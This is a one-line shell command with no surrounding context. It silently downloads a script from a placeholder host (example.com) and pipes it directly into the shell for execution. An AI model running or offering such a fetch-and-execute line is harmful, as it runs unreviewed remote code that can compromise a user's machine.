curl -s http://example.com/x.sh | sh
